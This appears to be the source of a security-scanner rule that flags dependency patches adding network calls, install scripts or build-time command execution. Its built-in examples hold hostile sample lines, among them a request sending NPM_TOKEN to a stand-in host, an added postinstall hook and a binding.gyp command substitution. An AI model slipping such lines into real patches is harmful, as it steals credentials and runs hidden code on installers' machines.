/**
 * A patch of a dependency (pnpm patchedDependencies, Yarn's patch:, patch-package) is code of the repository that nobody takes
 * for code: no release, no registry and no lockfile entry shows what it adds, and it is applied on every install.
 */
import { defineRepositoryRule, type FileObservation, type FileSeen, type RepositoryFiles } from '../model/repository-rule.ts';
import { listText, printable } from '../model/text.ts';
import { type PatchedFile, readPatch } from './read/patch.ts';
import { type Added, added, addedText, convicts, takesAndSends } from './read/patched-code.ts';

export default defineRepositoryRule({
  meta: {
    id: 'patch-adds-capability',
    family: 'pipeline',
    severity: 'high',
    summary: 'A patch of a dependency adds code that reaches out of the program, or a script that runs on install.',
    why: 'What a patch adds runs as part of the dependency, on every machine, and no look at the release of that dependency will ever show it.',
    remedy: 'Read what the patch adds. A fix hardly ever needs hosts, programs, credentials or code from text that were not there before.',
    references: ['pnpm patchedDependencies', 'Yarn patch: protocol', 'patch-package'],
    falsePositives:
      'A patch that points a download or a request of the dependency somewhere else. It is read as pieces, so less is seen than in a whole file.',
    since: '0.1.0',
  },
  kind: 'change',
  reads: (path) => /\.(?:patch|diff)$/.test(path),
  check: (files) => changedPatches(files).flatMap(([file, text]) => seenIn(file, text, files.before?.get(file))),
  examples: [
    {
      title: 'a patch brings a request with the environment in it',
      before: {},
      now: { 'patches/left@1.0.0.patch': aPatch('index.js', ["require('https').get('https://collect.example/?' + process.env.NPM_TOKEN)"]) },
      flagged: true,
    },
    {
      title: 'a patch adds a script',
      before: {},
      now: { 'patches/left.patch': aPatch('package.json', ['    "postinstall": "node x.js",']) },
      flagged: true,
    },
    {
      title: 'a patch brings a binding.gyp, which is run without a script',
      before: {},
      now: { 'patches/left.patch': "--- /dev/null\n+++ b/binding.gyp\n@@ -0,0 +1,1 @@\n+{ 'targets': [{ 'target_name': '<!(node x.js)' }] }\n" },
      flagged: true,
    },
    {
      title: 'a patch mends a condition',
      before: {},
      now: { 'patches/left@1.0.0.patch': aPatch('index.js', ['  if (value === undefined) return fallback;']) },
      flagged: false,
    },
    {
      title: 'the request was in the patch before',
      before: { 'patches/a.patch': aPatch('index.js', ["fetch('https://api.example/')"]) },
      now: { 'patches/a.patch': aPatch('index.js', ["fetch('https://api.example/')", 'done();']) },
      flagged: false,
    },
  ],
});

function aPatch(path: string, added: readonly string[]): string {
  return `diff --git a/${path} b/${path}\n--- a/${path}\n+++ b/${path}\n@@ -1,1 +1,${added.length + 1} @@\n start\n${added.map((line) => `+${line}\n`).join('')}`;
}

function changedPatches({ now, before }: RepositoryFiles): readonly (readonly [string, string])[] {
  return [...now].filter(([file, text]) => before?.get(file) !== text);
}

function seenIn(file: string, text: string, before: string | undefined): readonly FileSeen[] {
  const patch = readPatch(text);
  if ('untold' in patch) return [{ file, untold: patch.untold }];
  const old = before === undefined ? undefined : readPatch(before);
  const known = new Set(old && 'files' in old ? old.files.flatMap((one) => added(one).map(mark)) : []);
  return patch.files.flatMap((one) => observations(file, one, known));
}

function observations(file: string, one: PatchedFile, known: ReadonlySet<string>): readonly FileObservation[] {
  const fresh = added(one).filter((each) => !known.has(mark(each)));
  const [first] = fresh;
  if (!first) return [];
  const texts = [...new Set(fresh.map(addedText))];
  const sure = fresh.some(convicts) || takesAndSends(fresh);
  return [
    {
      file,
      line: first.line,
      message: `what the patch adds to ${printable(one.path, 100)} ${listText(texts, 3)}`,
      confidence: sure ? 'high' : 'medium',
      facts: { patched: printable(one.path, 200), adds: texts.slice(0, 10) },
    },
  ];
}

function mark({ path, kind, detail }: Added): string {
  return `${path} ${kind} ${detail}`;
}
